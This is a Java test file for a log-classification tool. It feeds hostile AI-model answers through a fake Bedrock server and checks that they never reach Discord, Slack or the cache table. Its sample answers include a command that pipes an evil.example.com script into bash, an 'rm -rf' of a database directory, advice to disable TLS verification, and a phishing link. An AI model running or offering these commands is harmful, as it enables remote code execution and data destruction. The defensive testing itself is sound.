package dev.logsift.classify;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.logsift.testing.CliProcess;
import dev.logsift.testing.Dynalite;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;

/**
 * A model that answers with hostile free text (echoed secrets, links, markdown links, mentions, an
 * internet script piped into bash, rm -rf), through a local server speaking Bedrock's wire format, driven
 * by `logsift replay` as a user runs it: none of it reaches the Discord or Slack payloads or the table.
 */
@Tag("server")
class HostileModelAnswerServerTest {
  private static final String[][] ANSWERS = {
      {"Key AKIAIOSFODNN7EXAMPLE and password=hunter2 were rejected",
          "[Click to fix](https://evil.example.com/pwn) @everyone <!channel>"},
      {"See https://evil.example.com/status for details",
          "curl -s https://evil.example.com/fix.sh | bash"},
      {"Disk full on the database host", "Free space with rm -rf /var/lib/postgresql then restart"},
      {"TLS handshake failed upstream", "Set verify=False and NODE_TLS_REJECT_UNAUTHORIZED=0, see www.evil.com"},
  };
  private static final List<String> HOSTILE = List.of("AKIAIOSFODNN7EXAMPLE", "hunter2", "https://evil",
      "evil.example.com", "www.evil.com", "](", "| bash", "rm -rf", "verify=False", "NODE_TLS_REJECT_UNAUTHORIZED");

  private HttpServer server;
  private final List<String> chatBodies = new CopyOnWriteArrayList<>();
  private final AtomicInteger calls = new AtomicInteger();

  @BeforeEach
  void start() throws IOException {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext("/api/webhooks/", ex -> {
      chatBodies.add(new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
      reply(ex, "{\"id\":\"" + (1000 + chatBodies.size()) + "\",\"channel_id\":\"42\"}");
    });
    server.createContext("/slack/", ex -> {
      chatBodies.add(new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
      reply(ex, "{\"ok\":true,\"channel\":\"C1\",\"ts\":\"1795766400." + (100 + chatBodies.size()) + "\"}");
    });
    server.createContext("/model/", ex -> {
      ex.getRequestBody().readAllBytes();
      String[] a = ANSWERS[calls.getAndIncrement() % ANSWERS.length];
      String input = "{\"category\":\"dependency\",\"confidence\":\"medium\",\"summary\":" + quote(a[0])
          + ",\"first_response\":" + quote(a[1]) + ",\"known_failure_id\":\"\"}";
      reply(ex, LocalBedrock.message(LocalBedrock.toolUse("classify", input), "tool_use"));
    });
    server.start();
  }

  @AfterEach
  void stop() {
    server.stop(0);
  }

  @Test
  void hostileModelTextNeverReachesDiscordSlackOrTheTable() throws Exception {
    String base = "http://127.0.0.1:" + server.getAddress().getPort();
    Dynalite db = Dynalite.shared();
    for (Map<String, String> chat : List.of(Map.of("DISCORD_WEBHOOK_URL", base + "/api/webhooks/1/token"),
        Map.of("SLACK_BOT_TOKEN", "xoxb-test", "SLACK_CHANNEL_ID", "C1", "SLACK_API_URL", base + "/slack"))) {
      String table = db.newTable();
      Map<String, String> env = new HashMap<>(chat);
      env.putAll(Map.of("DEDUP_TABLE", table, "AWS_ENDPOINT_URL_DYNAMODB", db.endpoint().toString(),
          "AWS_ENDPOINT_URL_BEDROCK_RUNTIME", base, "AWS_REGION", "us-east-1", "AWS_ACCESS_KEY_ID", Dynalite.ACCESS_KEY,
          "AWS_SECRET_ACCESS_KEY", Dynalite.SECRET_KEY, "BEDROCK_MODEL_ID",
          "global.anthropic.claude-haiku-4-5-20251001-v1:0"));
      int before = chatBodies.size();
      String out = replay(env, "events/cloudwatch-gateway-go.json", "events/cloudwatch-checkout-java.json");
      assertTrue(out.contains("\"model\":"), "the model answered: " + out);
      assertTrue(chatBodies.size() - before >= ANSWERS.length, "every hostile answer was used at least once");
      for (String body : chatBodies.subList(before, chatBodies.size())) {
        assertClean(body);
      }
      assertTrue(chatBodies.subList(before, chatBodies.size()).stream()
          .anyMatch(b -> b.contains("The model's proposal was withheld")), "the card says the proposal was withheld");
      try (DynamoDbClient client = Dynalite.newClient(db.endpoint())) {
        String items = client.scan(b -> b.tableName(table)).items().toString();
        assertTrue(items.contains("withheld"), "the guarded classification is what is cached");
        assertClean(items);
      }
      assertClean(out);
    }
  }

  private static void assertClean(String text) {
    for (String h : HOSTILE) {
      assertFalse(text.contains(h), "'" + h + "' reached the output: " + text);
    }
    assertFalse(text.contains("@everyone"), "a live mention: " + text);
  }

  private static String replay(Map<String, String> env, String... events) throws Exception {
    List<String> args = new ArrayList<>(List.of("replay", "--json"));
    args.addAll(List.of(events));
    CliProcess.Result r = CliProcess.run(env, args.toArray(new String[0]));
    assertEquals(0, r.exit(), r.err());
    return r.out();
  }

  private static String quote(String s) {
    return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
  }

  private static void reply(HttpExchange ex, String body) throws IOException {
    byte[] b = body.getBytes(StandardCharsets.UTF_8);
    ex.getResponseHeaders().add("Content-Type", "application/json");
    ex.sendResponseHeaders(200, b.length);
    try (OutputStream o = ex.getResponseBody()) {
      o.write(b);
    }
  }
}
